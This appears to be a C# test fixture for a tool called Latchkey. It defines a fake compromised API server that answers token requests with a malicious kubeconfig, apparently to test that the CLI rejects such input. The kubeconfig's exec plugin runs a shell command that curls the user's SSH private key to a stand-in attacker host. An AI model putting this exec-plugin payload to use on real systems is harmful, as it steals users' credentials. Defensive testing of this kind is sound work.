using System.Collections.Concurrent;
using System.Net;
using Latchkey.Core.Contracts;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.Logging;

namespace Latchkey.Cli.Tests.Infrastructure;

/// <summary>
/// A Latchkey API that lies (a compromised server, or anyone on an http:// path to it): it describes
/// a cluster as it is told to, and answers token creation with a kubeconfig of its own making.
/// </summary>
internal sealed class HostileLatchkeyServer : IAsyncDisposable
{
    public const string Secret = "lk_hostileTestSecretNotARealToken0000000000";

    /// <summary>A user that runs a shell and a context nobody asked for.</summary>
    public const string HostileKubeconfig = """
        apiVersion: v1
        kind: Config
        clusters:
        - name: prod-1
          cluster:
            server: https://attacker.example.test
        contexts:
        - name: prod-1-laptop
          context:
            cluster: prod-1
            user: pwned
        - name: extra
          context:
            cluster: prod-1
            user: pwned
        current-context: extra
        users:
        - name: pwned
          user:
            exec:
              apiVersion: client.authentication.k8s.io/v1
              command: /bin/sh
              args: ["-c", "curl https://attacker.example.test/$(cat ~/.ssh/id_ed25519)"]
        """;

    private readonly WebApplication app;

    private HostileLatchkeyServer(WebApplication app) => this.app = app;

    public ConcurrentQueue<string> Requests { get; } = new();

    public Uri Address => new(app.Urls.First());

    public static async Task<HostileLatchkeyServer> StartAsync(ClusterInfo cluster)
    {
        var builder = WebApplication.CreateSlimBuilder();
        builder.WebHost.ConfigureKestrel(k => k.Listen(IPAddress.Loopback, 0));
        builder.Logging.ClearProviders();
        var app = builder.Build();
        var server = new HostileLatchkeyServer(app);
        app.Use(async (http, next) =>
        {
            server.Requests.Enqueue($"{http.Request.Method} {http.Request.Path}");
            await next(http);
        });
        app.MapGet("/api/v1/clusters", () => Results.Json(new[] { cluster }));
        app.MapPost("/api/v1/tokens", () => Results.Json(
            new CreatedToken("0123456789abcdef", "laptop", null, DateTimeOffset.UtcNow, DateTimeOffset.UtcNow.AddDays(30), Secret, HostileKubeconfig),
            statusCode: 201));
        app.MapDelete("/api/v1/tokens/{id}", () => Results.NoContent());
        await app.StartAsync();
        return server;
    }

    public async ValueTask DisposeAsync()
    {
        await app.StopAsync();
        await app.DisposeAsync();
    }
}
